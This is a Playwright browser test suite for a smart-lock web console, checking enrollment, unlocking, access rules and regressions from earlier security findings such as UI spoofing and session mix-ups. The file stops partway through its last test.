"""The web console in a real browser: Debian's Chromium, driven by playwright, against the whole stack.

Chromium's fake microphone plays corpus speech (``--use-file-for-fake-audio-capture``), so "enroll my voice" records
real speech through getUserMedia and the page's AudioWorklet. The live view is read by the Firebase JS SDK under
the security rules. Screenshots of the key states go to ``.artefacts/console/`` (kept by CI as artefacts), with the
measured delay between the lock's acknowledgement and the page showing the door unlocked.
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from infra.local import stack
from infra.local.firestore_sdk import sdk_client
from lockwise.devices import members
from lockwise.voice import audio
from lockwise.voice.model.resample import resample
from tests.waiting import wait_for

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
REPO = Path(__file__).resolve().parents[2]
ARTEFACTS = REPO / ".artefacts" / "console"


@pytest.fixture(scope="module")
def env() -> Iterator[dict[str, str]]:
    with stack.background() as stack_env:
        yield stack_env


@pytest.fixture(scope="module")
def chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        pytest.fail("Chromium is missing: ./dev test installs Debian's chromium (apt-get install chromium)")
    return path


def signed_up(page: Any, url: str, name: str) -> None:
    """Sign ``page`` up at the console at ``url`` as a new account (``name``-TIME@example.com), and wait for it."""
    from playwright.sync_api import expect

    page.goto(url)
    page.fill("#email", f"{name}-{int(time.time() * 1000)}@example.com")
    page.fill("#password", "correct horse battery")
    page.click("#sign-up-button")
    expect(page.locator("#signed-in")).to_be_visible(timeout=15_000)


def _speech(corpus: Path) -> list[Path]:
    clips = []
    for path in sorted((corpus / "allison").glob("en-*.wav"))[:40]:
        clip = audio.parse_wav(path.read_bytes())
        if audio.speech_seconds(clip.samples, clip.rate) >= 3.5:
            clips.append(path)
    return clips


def _microphone(clips: list[Path], out: Path) -> Path:
    """What the fake microphone plays (looped): several takes of one speaker, at 48 kHz."""
    parts = []
    for path in clips:
        clip = audio.parse_wav(path.read_bytes())
        parts += [resample(clip.samples, clip.rate, 48_000), np.zeros(12_000, dtype=np.float32)]
    out.write_bytes(audio.to_wav(audio.Clip(np.concatenate(parts), 48_000)))
    return out


def test_the_console_signs_in_enrolls_by_microphone_and_shows_the_door_open(
    env: dict[str, str], chromium: str, corpus: Path, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    from simlock.lock import SimulatedLock, provision

    ARTEFACTS.mkdir(parents=True, exist_ok=True)
    speech = _speech(corpus)
    mic = _microphone(speech[:4], tmp_path / "microphone.wav")
    url = env["LOCKWISE_CONSOLE_URL"]
    measured: dict[str, Any] = {}
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=chromium,
            args=[
                "--no-sandbox",
                "--use-fake-ui-for-media-stream",
                "--use-fake-device-for-media-stream",
                f"--use-file-for-fake-audio-capture={mic}",
            ],
        )
        page = browser.new_page(viewport={"width": 1100, "height": 900})
        page.goto(url)
        stamp = int(time.time() * 1000)
        page.fill("#email", f"owner-{stamp}@example.com")
        page.fill("#password", "correct horse battery")
        page.click("#sign-up-button")
        expect(page.locator("#signed-in")).to_be_visible(timeout=15_000)
        expect(page.locator("#voice-status")).to_have_text("not enrolled", timeout=15_000)

        page.fill("#new-lock-name", "Front door")
        page.click("#new-lock-form button[type=submit]")
        card = page.locator(".lock").first
        expect(card.locator(".pairing-code")).not_to_be_empty(timeout=15_000)
        code = card.locator(".pairing-code").inner_text().strip()
        lock_id = card.get_attribute("data-lock-id")
        assert lock_id
        page.screenshot(path=str(ARTEFACTS / "1-lock-created.png"))

        page.click("#enroll")
        expect(page.locator("#enroll-progress")).to_have_attribute("data-done", "true", timeout=60_000)
        expect(page.locator("#voice-status")).to_contain_text("enrolled (5 samples)", timeout=15_000)
        page.screenshot(path=str(ARTEFACTS / "2-voice-enrolled.png"))

        lock = SimulatedLock(provision(env["LOCKWISE_DEVICES_URL"], code, env["MQTT_CA_FILE"]))
        lock.start()
        try:
            expect(card.locator(".online")).to_have_text("online", timeout=15_000)
            # the lock hears the owner (a take the microphone never played) and opens
            page.evaluate(
                """() => { window.unlockedAt = null;
                  new MutationObserver(() => {
                    if (!window.unlockedAt && document.querySelector('.door[data-state="unlocked"]'))
                      window.unlockedAt = performance.now();
                  }).observe(document.body, {subtree: true, attributes: true, childList: true}); }"""
            )
            answer = lock.hear(env["LOCKWISE_VERIFY_URL"], speech[6].read_bytes(), again=speech[7].read_bytes())
            acked_at = page.evaluate("performance.now()")
            assert answer["decision"] == "accepted", answer
            expect(card.locator(".door")).to_have_attribute("data-state", "unlocked", timeout=15_000)
            measured["ack_to_page_ms"] = round(page.evaluate("window.unlockedAt") - acked_at, 1)
            expect(card.locator(".activity li[data-kind=voice_attempt]").first).to_contain_text("accepted")
            page.screenshot(path=str(ARTEFACTS / "3-door-unlocked.png"))

            # the lock button: a command through the relay, executed and reported back to the page
            card.locator(".lock-button").click()
            expect(card.locator(".door")).to_have_attribute("data-state", "locked", timeout=15_000)
            assert lock.executed[-1].action == "lock"
        finally:
            lock.stop()

        # a second user sees no lock, and the rules refuse the owner's lock to their SDK
        other = browser.new_context().new_page()
        other.goto(url)
        other.fill("#email", f"neighbour-{stamp}@example.com")
        other.fill("#password", "another good password")
        other.click("#sign-up-button")
        expect(other.locator("#signed-in")).to_be_visible(timeout=15_000)
        expect(other.locator("#voice-status")).to_have_text("not enrolled", timeout=15_000)
        assert other.locator(".lock").count() == 0
        denied = other.evaluate(
            """async (lockId) => {
              const sdk = await import('/vendor/firebase.js');
              const db = sdk.getFirestore(sdk.getApp());
              const read = (ref) => new Promise((resolve) => {
                const stop = sdk.onSnapshot(ref, () => { stop(); resolve('read'); }, (e) => resolve(e.code));
              });
              return [await read(sdk.doc(db, 'locks', lockId)),
                      await read(sdk.collection(db, 'locks', lockId, 'activity'))];
            }""",
            lock_id,
        )
        assert denied == ["permission-denied", "permission-denied"]
        other.screenshot(path=str(ARTEFACTS / "4-neighbour-sees-nothing.png"))
        browser.close()
    (ARTEFACTS / "measured.json").write_text(json.dumps(measured, indent=2) + "\n")
    for name in ("1-lock-created", "2-voice-enrolled", "3-door-unlocked", "4-neighbour-sees-nothing"):
        assert (ARTEFACTS / f"{name}.png").stat().st_size > 10_000


def test_the_console_may_not_be_framed(env: dict[str, str]) -> None:
    """Served with the headers firebase.json gives Hosting (attack run 12: none were set): no page may frame it."""
    import urllib.request

    with urllib.request.urlopen(env["LOCKWISE_CONSOLE_URL"] + "/", timeout=10) as resp:
        policy = {part.strip() for part in resp.headers["Content-Security-Policy"].split(";")}
        assert {"frame-ancestors 'none'", "script-src 'self'", "object-src 'none'", "base-uri 'none'"} <= policy
        assert resp.headers["X-Frame-Options"] == "DENY" and resp.headers["X-Content-Type-Options"] == "nosniff"


def test_the_console_says_what_to_do_when_the_microphone_is_refused(env: dict[str, str], chromium: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--deny-permission-prompts"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "nomic")
        page.click("#enroll")
        expect(page.locator("#notice")).to_contain_text("Microphone refused", timeout=15_000)
        expect(page.locator("#notice")).to_have_attribute("data-kind", "error")
        browser.close()


def test_a_lock_whose_answer_was_lost_is_not_made_twice_when_created_again(env: dict[str, str], chromium: str) -> None:
    """The browser sends the create, the devices function makes the lock, and the answer never reaches the page (the
    network dropped it): the page says so, and creating it again gives the lock made, not a second one (the same
    idempotency key for the same name)."""
    from playwright.sync_api import Route, expect, sync_playwright

    lost: list[int] = []

    def lose_the_first_answer(route: Route) -> None:
        if route.request.method == "POST" and not lost:
            lost.append(route.fetch().status)  # the server has it and answers; the page never hears
            route.abort("connectionreset")
        else:
            route.continue_()

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "lost")
        page.route("**/devices/locks", lose_the_first_answer)
        page.fill("#new-lock-name", "Shed")
        page.click("#new-lock-form button[type=submit]")
        expect(page.locator("#notice")).to_contain_text("create it again", timeout=15_000)
        assert lost == [201]
        page.click("#new-lock-form button[type=submit]")
        expect(page.locator(".lock .pairing-code").first).not_to_be_empty(timeout=15_000)
        expect(page.locator(".lock")).to_have_count(1)  # the list, read after the answer: one lock on the server
        browser.close()


def test_invitations_that_cannot_be_listed_leave_the_locks_and_the_pairing_code_shown(
    env: dict[str, str], chromium: str
) -> None:
    """The console listed locks and invitations together, and one failing (a 429 for invitations listed too often)
    showed neither (attack run 63); later a listing's failure replaced a new lock's pairing code in the notice
    (attack run 66). The locks are shown, the invitations that could not be read are not (their buttons would answer
    what may be gone), and the notice says the code and what failed."""
    from playwright.sync_api import Route, expect, sync_playwright

    def too_often(route: Route) -> None:
        body = '{"error": {"code": "invitations_listed_too_often", "message": "invitations are listed too often"}}'
        route.fulfill(status=429, body=body, headers={"Content-Type": "application/json", "Retry-After": "30"})

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "listed")
        page.route("**/devices/invitations*", too_often)
        page.fill("#new-lock-name", "Garage")
        page.click("#new-lock-form button[type=submit]")
        notice = page.locator("#notice")
        expect(notice).to_contain_text("Pairing code for the lock", timeout=15_000)
        expect(notice).to_contain_text("Could not load your invitations", timeout=15_000)
        expect(notice).to_have_attribute("data-kind", "error")
        expect(page.locator(".lock")).to_have_count(1)  # the locks, listed all the same
        expect(page.locator(".lock .pairing-code").first).not_to_be_empty()
        expect(page.locator("#invitations-section")).to_be_hidden()
        browser.close()


def test_an_invitation_shows_who_sent_it_beside_the_locks_name(env: dict[str, str], chromium: str) -> None:
    """The console showed an invitation as the lock's name and role alone, the name the sender's free text: "Home"
    from a stranger read as an invitation from home. It shows the sender's verified address, or says they have
    none."""
    from playwright.sync_api import expect, sync_playwright

    from tests.devices_world import verify_email

    known, unverified, invitee = _account(env, "sender"), _account(env, "stranger"), _account(env, "invitee")
    verify_email(env["FIREBASE_AUTH_EMULATOR_HOST"], env["LOCKWISE_PROJECT_ID"], known["localId"])
    known = {**known, **_signed_in(env, known)}  # a token vouching for the address: recorded as the sender's
    for sender, name in ((known, "Home"), (unverified, "Also home")):
        _invites_to_a_new_lock(env, sender, invitee, name)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        _sign_in_there(page, env, invitee)
        shown = page.locator("#invitations li")
        expect(shown).to_have_count(2, timeout=15_000)
        expect(shown.nth(0)).to_contain_text(f"From {known['email']}: Home as member")
        expect(shown.nth(1)).to_contain_text(
            f"From an account with no verified address ({unverified['localId']}): Also home as member"
        )
        browser.close()


#: where in ``li`` the text node holding the given text, and the lock's name (its ``.theirs``, else the text "Home
#: as"), are drawn: their left edges
_DRAWN_AT = """(li, text) => {
  const left = (needle) => {
    const walk = document.createTreeWalker(li, NodeFilter.SHOW_TEXT);
    for (let node = walk.nextNode(); node; node = walk.nextNode()) {
      const at = node.data.indexOf(needle);
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + needle.length);
      return range.getBoundingClientRect().left;
    }
    return null;
  };
  return { uid: left(text), name: left("Home as") };
}"""


def test_a_locks_name_is_its_senders_text_not_the_consoles_words(env: dict[str, str], chromium: str) -> None:
    """Attack run 118: the invitation's line was the lock's name, then the console's words, in one sentence, and the
    name is the sender's free text: one written "Home as admin, from <the invitee's mother>," read as an admin's
    invitation from her, the stranger's address pushed to the end. The sender comes first, in the console's words;
    the name is an element of its own, isolated (a right-to-left name cannot reorder the sentence) and outlined, cut
    short with the rest of the line left in view."""
    from playwright.sync_api import Route, expect, sync_playwright

    from tests.devices_world import verify_email

    stranger, invitee = _account(env, "stranger-words"), _account(env, "invitee-words")
    verify_email(env["FIREBASE_AUTH_EMULATOR_HOST"], env["LOCKWISE_PROJECT_ID"], stranger["localId"])
    stranger = {**stranger, **_signed_in(env, stranger)}
    mimic = "Home as admin, from mom@example.com,"
    _invites_to_a_new_lock(env, stranger, invitee, mimic)
    _invites_to_a_new_lock(env, stranger, invitee, "W" * 100)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 480, "height": 900})
        _sign_in_there(page, env, invitee)
        shown = page.locator("#invitations li")
        expect(shown).to_have_count(2, timeout=15_000)
        line = shown.filter(has_text="mom@example.com")
        text = line.text_content() or ""
        assert text.startswith(f"From {stranger['email']}: "), text
        name = line.locator(".theirs")
        expect(name).to_have_text(mimic)
        style = name.evaluate(
            "e => { const s = getComputedStyle(e); return [s.unicodeBidi, s.borderTopStyle, s.overflow]; }"
        )
        assert style == ["isolate", "dashed", "hidden"], style
        long = shown.filter(has_text="WWWW")
        expect(long.locator("button", has_text="accept")).to_be_in_viewport()
        width = long.locator(".theirs").evaluate("e => e.getBoundingClientRect().width")
        assert width <= 480 * 0.6 + 1, width

        # a uid is any text a deployment's own sign-in chose but '/' (the token verifier takes U+202E in one): it
        # cannot turn the rest of the line around either
        def turned(route: Route) -> None:
            answer = route.fetch()
            body = answer.json()
            for invitation in body["invitations"]:
                invitation["invited_by"], invitation["invited_by_email"] = "acct\u202eliam", None
            route.fulfill(response=answer, json=body)

        page.route("**/devices/invitations*", turned)
        page.reload()
        line = page.locator("#invitations li").filter(has_text="mom@example.com")
        expect(line).to_have_count(1, timeout=15_000)
        expect(line.locator(".address")).to_have_text("acct\u202eliam")
        # where the uid's text and the name are drawn: the sender, then the name, left to right as written
        boxes = line.evaluate(_DRAWN_AT, "liam")  # the text after the override
        assert boxes["uid"] < boxes["name"], boxes
        browser.close()


def test_an_invitation_listed_by_the_release_before_says_nothing_of_its_senders_address(
    env: dict[str, str], chromium: str
) -> None:
    """A devices function of the release before (rolled back, or not yet deployed: Hosting deploys on its own) lists
    invitations without ``invited_by_email``. The console read the missing field as null and said the invitation came
    from an account with no verified address, whatever the sender's (attack run 109): it names the sender's account
    and says nothing of its address then."""
    from playwright.sync_api import Route, expect, sync_playwright

    from tests.devices_world import verify_email

    sender, invitee = _account(env, "sender-before"), _account(env, "invitee-before")
    verify_email(env["FIREBASE_AUTH_EMULATOR_HOST"], env["LOCKWISE_PROJECT_ID"], sender["localId"])
    sender = {**sender, **_signed_in(env, sender)}
    _invites_to_a_new_lock(env, sender, invitee, "Front door")

    def release_before(route: Route) -> None:  # its answer as a devices function without the field gives it
        answer = route.fetch()
        body = answer.json()
        for invitation in body["invitations"]:
            del invitation["invited_by_email"]
        route.fulfill(response=answer, json=body)

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        page.route("**/devices/invitations*", release_before)
        _sign_in_there(page, env, invitee)
        shown = page.locator("#invitations li")
        expect(shown).to_have_count(1, timeout=15_000)
        expect(shown.first).to_contain_text(f"From the account {sender['localId']}: Front door as member")
        expect(shown.first).not_to_contain_text("no verified address")
        browser.close()


def test_the_members_box_names_each_member_by_their_address(env: dict[str, str], chromium: str) -> None:
    """The owner invites by address, and the console listed the lock's members by uid alone: whom a removal would
    remove was a guess. Each member is shown by the address Firebase Auth vouched for as theirs, beside the uid."""
    from playwright.sync_api import expect, sync_playwright

    from tests.devices_world import verify_email

    owner, member = _account(env, "owner-box"), _account(env, "member-box")
    verify_email(env["FIREBASE_AUTH_EMULATOR_HOST"], env["LOCKWISE_PROJECT_ID"], member["localId"])
    member = {**member, **_signed_in(env, member)}
    assert _devices(env, member, "GET", "/devices/me").status_code == 200
    invitation = _invites_to_a_new_lock(env, owner, member, "Porch")
    accepted = _devices(env, member, "POST", f"/devices/invitations/{invitation}/accept")
    assert accepted.status_code == 201, accepted.text
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        _sign_in_there(page, env, owner)
        listed = page.locator(".lock .members li")
        expect(listed.filter(has_text=member["localId"])).to_contain_text(
            f"{member['email']} ({member['localId']}) member", timeout=15_000
        )
        browser.close()


def _with_fake_microphone(p: Any, chromium: str) -> Any:
    """Chromium launched with a fake microphone it may use unasked (its own test tone)."""
    return p.chromium.launch(
        executable_path=chromium,
        args=["--no-sandbox", "--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"],
    )


def _invites_to_a_new_lock(env: dict[str, str], sender: dict[str, Any], invitee: dict[str, Any], name: str) -> str:
    """``sender`` makes a lock named ``name`` and invites ``invitee`` to it as a member: the invitation's id."""
    assert _devices(env, sender, "GET", "/devices/me").status_code == 200
    created = _devices(env, sender, "POST", "/devices/locks", json={"name": name})
    assert created.status_code == 201, created.text
    invited = _devices(
        env,
        sender,
        "POST",
        f"/devices/locks/{created.json()['lock']['id']}/members",
        json={"uid": invitee["localId"], "role": "member"},
    )
    assert invited.status_code == 202, invited.text
    return str(invited.json()["invitation"]["id"])


def _sign_in_there(page: Any, env: dict[str, str], account: dict[str, Any]) -> None:
    """Sign ``account`` in at the console in ``page``."""
    page.goto(env["LOCKWISE_CONSOLE_URL"])
    page.fill("#email", account["email"])
    page.fill("#password", account["password"])
    page.click("#sign-in-button")


def _signed_in(env: dict[str, str], account: dict[str, Any]) -> dict[str, Any]:
    """``account`` signed in again (a new ID token, as its account now stands)."""
    import requests

    answer: dict[str, Any] = requests.post(
        f"http://{env['FIREBASE_AUTH_EMULATOR_HOST']}/identitytoolkit.googleapis.com/v1/accounts:signInWithPassword"
        "?key=fake",
        json={"email": account["email"], "password": account["password"], "returnSecureToken": True},
        timeout=10,
    ).json()
    return answer


def _account(env: dict[str, str], name: str) -> dict[str, Any]:
    """A new Auth emulator account (its signUp answer, with the password), known to the devices function."""
    import requests

    email, password = f"{name}-{int(time.time() * 1000)}@example.com", "correct horse battery"
    answer = requests.post(
        f"http://{env['FIREBASE_AUTH_EMULATOR_HOST']}/identitytoolkit.googleapis.com/v1/accounts:signUp?key=fake",
        json={"email": email, "password": password, "returnSecureToken": True},
        timeout=10,
    ).json()
    assert _devices(env, answer, "GET", "/devices/me").status_code == 200
    return {**answer, "password": password}


def _devices(env: dict[str, str], account: dict[str, Any], method: str, path: str, **kw: Any) -> Any:
    import requests

    headers = {"Authorization": f"Bearer {account['idToken']}"}
    return requests.request(method, env["LOCKWISE_DEVICES_URL"] + path, headers=headers, timeout=15, **kw)


#: in the page, once it made its Firebase app (after reading its configuration: ``page.goto`` may return before,
#: and ``getApp`` threw "no Firebase App", a full run once): sign in as the account, then listen to the lock's
#: document and to the lock's own reports as a member asks for them (``audience == "everyone"``), keeping what each
#: listener heard in ``window.heard``
_LISTEN = """async ([email, password, lockId]) => {
  const sdk = await import('/vendor/firebase.js');
  const app = await (async () => {
    for (let tries = 0; tries < 200; tries++) {
      try { return sdk.getApp(); } catch (e) { await new Promise((done) => setTimeout(done, 50)); }
    }
    return sdk.getApp();
  })();
  await sdk.signInWithEmailAndPassword(sdk.getAuth(app), email, password);
  const db = sdk.getFirestore(app);
  window.heard = {lock: [], reports: []};
  sdk.onSnapshot(sdk.doc(db, 'locks', lockId),
    (s) => window.heard.lock.push(s.exists() ? s.data().name : 'gone'),
    (e) => window.heard.lock.push(e.code));
  const reports = sdk.query(sdk.collection(db, 'locks', lockId, 'activity'), sdk.where('audience', '==', 'everyone'));
  sdk.onSnapshot(reports,
    (s) => window.heard.reports.push(s.docs.map((d) => d.data().state || d.data().kind).join(',')),
    (e) => window.heard.reports.push(e.code));
}"""


@pytest.mark.parametrize("change", ["removed", "made_a_guest"])
def test_an_open_listener_hears_nothing_once_the_api_ends_what_it_read(
    env: dict[str, str], chromium: str, change: str
) -> None:
    """Untested until now (attack run 49's list): a member's listeners open in the app while the owner removes them,
    or makes them a guest (who reads the entries naming them, not the lock's own reports: attack run 47). The rules
    check a listener again when what it reads changes; after the change the listener hears no new name of the lock
    (removed) and no new report of the lock (either), and is told it may not read."""
    from playwright.sync_api import sync_playwright

    from simlock.lock import SimulatedLock, provision

    owner, member = _account(env, "owner"), _account(env, "member")
    created = _devices(env, owner, "POST", "/devices/locks", json={"name": "Front door"})
    assert created.status_code == 201, created.text
    lock_id = created.json()["lock"]["id"]
    invited = _devices(
        env, owner, "POST", f"/devices/locks/{lock_id}/members", json={"uid": member["localId"], "role": "member"}
    )
    assert invited.status_code == 202, invited.text
    accepted = _devices(env, member, "POST", f"/devices/invitations/{invited.json()['invitation']['id']}/accept")
    assert accepted.status_code == 201, accepted.text
    lock = SimulatedLock(
        provision(env["LOCKWISE_DEVICES_URL"], created.json()["provisioning"]["code"], env["MQTT_CA_FILE"])
    )
    lock.start()
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
            page = browser.new_page()
            page.goto(env["LOCKWISE_CONSOLE_URL"])
            page.evaluate(_LISTEN, [member["email"], member["password"], lock_id])

            def heard() -> dict[str, list[str]]:
                found: dict[str, list[str]] = page.evaluate("window.heard")
                return found

            def command(action: str) -> None:
                sent = _devices(env, owner, "POST", f"/devices/locks/{lock_id}/commands", json={"action": action})
                assert sent.status_code == 202, sent.text

            # before: both listeners hear what changes
            command("unlock")
            wait_for(
                lambda: "unlocked" in ",".join(heard()["reports"][-1:]).split(","),
                what="the unlock's report, heard by the member",
            )
            assert _devices(env, owner, "PATCH", f"/devices/locks/{lock_id}", json={"name": "Door 2"}).ok
            wait_for(lambda: heard()["lock"][-1:] == ["Door 2"], what="the new name, heard by the member")
            before = heard()
            sdk = sdk_client(env["LOCKWISE_PROJECT_ID"], env["FIRESTORE_EMULATOR_HOST"])

            def locked_reports() -> int:
                entries = sdk.collection(f"locks/{lock_id}/activity").stream()
                return sum(e.to_dict().get("state") == "locked" for e in entries)

            locked_before = locked_reports()
            if change == "removed":
                ended = _devices(env, owner, "DELETE", f"/devices/locks/{lock_id}/members/{member['localId']}")
                assert ended.status_code == 204, ended.text
            else:
                ended = _devices(
                    env,
                    owner,
                    "PATCH",
                    f"/devices/locks/{lock_id}/members/{member['localId']}",
                    json={"role": "guest", "access": {"weekdays": list(members.WEEKDAY_NAMES)}},
                )
                assert ended.status_code == 200, ended.text
            command("lock")
            wait_for(lambda: lock.state == "locked", what="the lock locked")
            assert _devices(env, owner, "PATCH", f"/devices/locks/{lock_id}", json={"name": "Door 3"}).ok
            # both in Firestore (as its owner's listeners have them), then time for the member's to hear them
            wait_for(lambda: (sdk.document(f"locks/{lock_id}").get().to_dict() or {}).get("name") == "Door 3")
            wait_for(lambda: locked_reports() == locked_before + 1, what="the lock's report in its feed")
            time.sleep(2)
            after = heard()
            browser.close()
    finally:
        lock.stop()
    new_reports = after["reports"][len(before["reports"]) :]
    # each snapshot is the whole result: one after the change would have the lock's new report in it
    assert new_reports == ["permission-denied"], after
    if change == "removed":
        assert "Door 3" not in after["lock"] and after["lock"][-1] == "permission-denied", after
    else:
        assert after["lock"][-1] == "Door 3", after  # a guest in their window reads the lock's document


def test_signing_out_leaves_nothing_of_the_account_on_the_page(env: dict[str, str], chromium: str) -> None:
    """Attack run 105: signed out, the sign-in form kept the account's password (one click signed in again as it on
    a shared browser) and the notice kept the pairing code of the lock just created."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "leaving")
        page.fill("#new-lock-name", "Back door")
        page.click("#new-lock-form button[type=submit]")
        expect(page.locator("#notice")).to_contain_text("Pairing code for the lock", timeout=15_000)
        page.click("#sign-out")
        expect(page.locator("#sign-in")).to_be_visible(timeout=15_000)
        assert page.input_value("#password") == ""
        assert "Pairing code" not in page.inner_text("#notice")
        assert page.locator(".lock").count() == 0
        browser.close()


def _sign_up_there(page: Any, name: str) -> str:
    """Sign up a new account on ``page`` (already at the console, signed out): its uid."""
    from playwright.sync_api import expect

    page.fill("#email", f"{name}-{int(time.time() * 1000)}@example.com")
    page.fill("#password", "another good password")
    page.click("#sign-up-button")
    expect(page.locator("#signed-in")).to_be_visible(timeout=15_000)
    expect(page.locator("body")).not_to_have_attribute("data-uid", "", timeout=15_000)
    uid = page.get_attribute("body", "data-uid")
    assert uid
    return str(uid)


def _uid_of(authorization: str) -> str:
    import base64

    payload = authorization.removeprefix("Bearer ").split(".")[1]
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return str(claims["user_id"])


def test_an_enrollment_recorded_for_one_account_is_not_uploaded_for_the_next(
    env: dict[str, str], chromium: str
) -> None:
    """Attack run 105: the upload took the token of whoever was signed in when the 5 samples were done: one person
    recording, signing out and the next signing in on the same browser within the 22 s enrolled the first's voice as
    the second account's (whose doors then opened to the first's voice). Samples recorded for an account signed out
    since are dropped."""
    from playwright.sync_api import Route, expect, sync_playwright

    sent: list[str] = []

    def upload(route: Route) -> None:
        sent.append(_uid_of(route.request.headers["authorization"]))
        route.abort()  # what it would store is not the question: who it is sent for is

    with sync_playwright() as p:
        browser = _with_fake_microphone(p, chromium)
        page = browser.new_page()
        page.route("**/embed/enrollment", upload)
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "recorded")
        first = page.get_attribute("body", "data-uid")
        page.click("#enroll")
        expect(page.locator("#enroll-progress")).to_contain_text("Sample 2", timeout=15_000)
        page.click("#sign-out")
        expect(page.locator("#sign-in")).to_be_visible(timeout=15_000)
        second = _sign_up_there(page, "next")
        assert second != first
        expect(page.locator("#enroll")).to_be_enabled(timeout=60_000)  # the recording's end
        page.wait_for_timeout(1000)
        progress = page.inner_text("#enroll-progress")
        browser.close()
    assert second not in sent and sent == [], sent
    assert "Enroll" not in progress, progress


def test_an_enrollment_whose_answer_was_lost_is_sent_again_not_recorded_again(
    env: dict[str, str], chromium: str
) -> None:
    """Attack run 108: an enrollment whose upload was never answered (the network dropped it after the function stored
    the voice) left the page nothing but "refused": enrolling again recorded five new samples, a second enrollment
    compared with co-members' voices again (a few a day), counted, and the voice's place at each lock begun again,
    where the same samples sent again are answered with the voiceprint they made. The page keeps the samples of an
    unanswered upload and sends them again at the next click, recording nothing."""
    from playwright.sync_api import Route, expect, sync_playwright

    bodies: list[str] = []

    def upload(route: Route) -> None:
        if route.request.method != "PUT":
            route.continue_()
            return
        bodies.append(route.request.post_data or "")
        if len(bodies) == 1:
            route.abort("connectionreset")  # stored, perhaps: the page never hears
        else:
            route.fulfill(status=200, body='{"samples": 5}', headers={"Content-Type": "application/json"})

    with sync_playwright() as p:
        browser = _with_fake_microphone(p, chromium)
        page = browser.new_page()
        page.route("**/embed/enrollment", upload)
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "unanswered")
        page.click("#enroll")
        expect(page.locator("#enroll-progress")).to_have_attribute("data-done", "error", timeout=60_000)
        lost = page.inner_text("#enroll-progress")
        page.click("#enroll")  # at once, not after five samples' 22 s
        expect(page.locator("#enroll-progress")).to_have_text("Enrolled from 5 samples.", timeout=10_000)
        browser.close()
    assert len(bodies) == 2 and bodies[0] == bodies[1] and len(bodies[0]) > 10_000, [len(b) for b in bodies]
    assert "the same samples" in lost, lost


def test_locks_listed_for_one_account_are_not_shown_to_the_next(env: dict[str, str], chromium: str) -> None:
    """Attack run 105: a listing answered after its account signed out and another signed in on the same browser
    was rendered for the second: the first's locks, their live view asked for and their buttons."""
    from playwright.sync_api import Route, expect, sync_playwright

    held: list[Route] = []
    hold = [False]

    def listing(route: Route) -> None:
        if route.request.method == "GET" and hold[0] and not held:
            held.append(route)  # answered later, once another account is signed in
        else:
            route.continue_()

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "first")
        page.fill("#new-lock-name", "First's door")
        page.click("#new-lock-form button[type=submit]")
        expect(page.locator(".lock")).to_have_count(1, timeout=15_000)
        page.route("**/devices/locks", listing)
        hold[0] = True
        page.reload()
        for _ in range(150):
            if held:
                break
            page.wait_for_timeout(100)
        assert held, "the first account's listing was not asked for"
        hold[0] = False
        expect(page.locator("#sign-out")).to_be_visible(timeout=15_000)
        page.click("#sign-out")
        expect(page.locator("#sign-in")).to_be_visible(timeout=15_000)
        _sign_up_there(page, "second")
        expect(page.locator("#voice-status")).to_have_text("not enrolled", timeout=15_000)
        page.wait_for_timeout(1000)  # the second's own listing (no lock)
        held[0].fulfill(response=held[0].fetch())  # the first's locks, with the first's token
        page.wait_for_timeout(2000)
        shown = page.locator(".lock").count()
        browser.close()
    assert shown == 0


def test_an_unlock_from_the_console_is_confirmed_by_the_locks_name(env: dict[str, str], chromium: str) -> None:
    """Attack run 105: Unlock, beside Lock, opened the door at one click. It asks first, naming the lock; declined,
    nothing is sent."""
    from playwright.sync_api import Dialog, Route, expect, sync_playwright

    asked: list[str] = []
    sent: list[str] = []
    answer = ["dismiss"]

    def ask(dialog: Dialog) -> None:
        asked.append(dialog.message)
        if answer[0] == "accept":
            dialog.accept()
        else:
            dialog.dismiss()

    def command(route: Route) -> None:
        sent.append(json.loads(route.request.post_data or "{}")["action"])
        route.fulfill(status=202, body="{}", headers={"Content-Type": "application/json"})

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        page.on("dialog", ask)
        signed_up(page, env["LOCKWISE_CONSOLE_URL"], "slip")
        page.route("**/devices/locks/*/commands", command)
        page.fill("#new-lock-name", "Garden gate")
        page.click("#new-lock-form button[type=submit]")
        card = page.locator(".lock").first
        expect(card).to_be_visible(timeout=15_000)
        card.locator(".unlock").click()
